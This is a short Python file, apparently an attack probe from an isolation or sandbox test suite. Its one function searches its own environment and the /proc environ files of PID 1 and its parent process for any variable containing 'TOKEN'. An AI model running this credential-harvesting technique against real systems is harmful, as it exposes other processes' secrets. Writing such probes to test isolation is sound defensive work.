"""Looks for a secret in its environment and in that of every process it can see."""

import os


def attack(marker, folder, python_path):
    found = [value for name, value in os.environ.items() if "TOKEN" in name]
    for process in ("self", "1", str(os.getppid())):
        try:
            with open(f"/proc/{process}/environ") as file:
                found += [entry for entry in file.read().split("\0") if "TOKEN" in entry]
        except OSError:
            continue
    if not found:
        raise LookupError("no token anywhere")
    return found
